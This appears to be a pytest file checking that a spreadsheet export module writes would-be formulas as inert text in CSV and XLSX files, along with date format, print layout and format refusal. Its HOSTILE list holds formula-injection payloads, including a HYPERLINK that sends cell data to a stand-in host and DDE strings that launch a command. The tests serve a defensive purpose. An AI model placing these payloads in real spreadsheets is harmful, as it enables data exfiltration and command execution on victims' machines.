"""The one table writer of the exports: formulas never reach a spreadsheet as formulas."""

import csv
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from dangvu.common.spreadsheets import csv_cell, write_table

COLUMNS = [("Họ và tên", 20), ("Ngày sinh", 12), ("Điện thoại", 12)]
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_would_be_a_formula_starts_with_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "038085001234", "a=b", "", None, 12])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) == ("" if value is None else str(value))


def test_csv_neutralises_every_cell_and_writes_dates_day_first(tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    rows = [[value, dt.date(1985, 3, 15), "0912"] for value in HOSTILE]

    assert write_table(path, sheet="DS", columns=COLUMNS, rows=rows) == len(HOSTILE)

    with path.open(encoding="utf-8-sig", newline="") as source:
        written = list(csv.reader(source))
    assert written[0] == ["Họ và tên", "Ngày sinh", "Điện thoại"]
    assert [row[0] for row in written[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in written[1:]} == {"15/03/1985"}


def test_xlsx_writes_would_be_formulas_as_text_cells(tmp_path: Path) -> None:
    path = tmp_path / "ds.xlsx"

    write_table(path, sheet="DS", columns=COLUMNS, rows=[[value, None, ""] for value in HOSTILE])

    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element: every value is a string cell
    values = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in values[1:]] == HOSTILE


def test_an_xlsx_table_prints_a4_landscape_with_its_header_on_every_page(
    tmp_path: Path,
) -> None:
    path = tmp_path / "ds.xlsx"
    rows: list[list[object]] = [
        ["Nguyễn Văn An", dt.date(1985, 3, 15), "0912"],
        ["Lê Thị Bình", None, ""],
    ]

    write_table(path, sheet="DS", columns=COLUMNS, rows=rows, title=["DANH SÁCH"])

    sheet = load_workbook(path)["DS"]
    assert sheet.auto_filter.ref == "A3:C5"  # the header row (3) and the two rows under it
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.oddFooter.center.text == "Trang &P/&N"


def test_other_formats_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"\.xlsx or \.csv"):
        write_table(tmp_path / "ds.pdf", sheet="DS", columns=COLUMNS, rows=[])
